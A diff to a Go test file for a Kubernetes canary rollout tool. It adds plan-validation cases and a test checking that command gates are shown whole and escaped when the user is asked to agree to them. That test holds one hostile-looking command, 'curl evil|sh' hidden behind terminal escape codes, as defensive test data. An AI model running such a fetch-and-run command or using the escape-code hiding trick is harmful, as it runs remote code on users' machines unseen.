@@ -4,6 +4,7 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -210,6 +211,11 @@ func TestRolloutStartRefuses(t *testing.T) {
 		{"canary -f -", "[]", "not a Kubernetes object"},
 		{"canary -f -", misspelt, `unknown field "gate"`},
 		{"canary -f -", strings.Replace(planInGit, "5m", "five", 1), `"five" is not a duration`},
+		{"canary -f -", strings.Replace(planInGit, "value: 30s", "value: soon", 1), `-f -: "soon" is not a length of time`},
+		{"canary -f -", strings.Replace(planInGit, "value: 30s", "value: ''", 1), "-f -: the gate time needs a value"},
+		{"canary -f -", strings.Replace(planInGit, "kind: time", "kind: tiem", 1), `-f -: there is no gate "tiem"`},
+		{"canary -f -", strings.Replace(planInGit, "kind: time", "kind: restarts", 1), "-f -: the gate restarts is asked at every step anyway"},
+		{"canary -f -", strings.Replace(planInGit, "pause: {for: 1m}", "gates: [{kind: webhook, value: 'https://kim:secret@host/'}]", 1), "-f -: the address of the web hook holds a name or a password"},
 		{"canary -f -", strings.Replace(planInGit, "kind: deploy,", "kind: pod,", 1), "cannot hold two versions"},
 		{"canary -f -", strings.Replace(planInGit, "  workload: {kind: deploy, namespace: shop, name: web}\n", "", 1), "names no workload"},
 		{"canary -f -", planInGit + "---\n" + planInGit, "holds 2 plans"},
@@ -303,6 +309,7 @@ func TestRolloutErrorsToExitCodes(t *testing.T) {
 		{&plan.Error{Problem: plan.ProblemNotFound, Args: map[string]any{"workload": "deployment/web", "namespace": "shop"}}, 1, "was not found in namespace shop"},
 		{&plan.Error{Problem: plan.ProblemRising, Args: map[string]any{"weight": "5", "before": "5"}}, 2, "does not rise"},
 		{&rollout.EditError{Problem: rollout.EditNoContainer, What: "ap", Near: "app", Known: []string{"app"}}, 2, `did you mean "app"`},
+		{fmt.Errorf("save: %w", &rollout.UnwritableError{Err: errors.New("the namespace is being terminated")}), 1, "cannot be written down any more: the namespace is being terminated"},
 		{&rollout.RefusedError{Object: web, Message: "denied"}, 3, "the API server refuses deployment/web: denied"},
 	} {
 		if code, line := told(t, c.err); code != c.code || !strings.Contains(line, c.says) || strings.Count(line, "\n") != 1 {
@@ -359,5 +366,26 @@ func TestWhoDrivesMayBeUnknown(t *testing.T) {
 			(len(c.record.notChecked()) > 0) != c.notChecked || !c.record.underWay() {
 			t.Errorf("%s: %+v, %+v", c.record.Life, v.Driver, c.record.notChecked())
 		}
+	}
+}
+
+// What is asked about a command shows all of it: whoever may write the journal
+// must not be able to hide a part of what is agreed to.
+func TestCommandsAreShownWhole(t *testing.T) {
+	a := newApp(t, lang.English)
+	var errs strings.Builder
+	a.Streams.In, a.Streams.Err, a.Streams.InTTY, a.Streams.ErrTTY = strings.NewReader("n\n"), &errs, true, true
+	evil := "curl evil|sh;\x1b[2K\r./smoke.sh\n\n"
+	spec := rollout.Spec{Gates: []rollout.GateSpec{{Kind: rollout.GateCommand, Value: evil}, {Kind: rollout.GateCommand, Value: "./확인.sh"}}}
+	may, err := a.agreeToCommands(spec, askOptions{do: rollout.AskResume})
+	if err != nil || may(evil) {
+		t.Errorf("refused and yet allowed: %v", err)
+	}
+	if got := errs.String(); strings.ContainsAny(got, "\x1b\r\n") || !strings.Contains(got, `"curl evil|sh;\x1b[2K\r./smoke.sh\n\n"`) || !strings.Contains(got, "./확인.sh") {
+		t.Errorf("asked %q", got)
+	}
+	a.Streams.In = strings.NewReader("y\n")
+	if may, err = a.agreeToCommands(spec, askOptions{do: rollout.AskResume}); err != nil || !may(evil) || may("other") {
+		t.Errorf("agreed to, and not allowed: %v", err)
 	}
 }
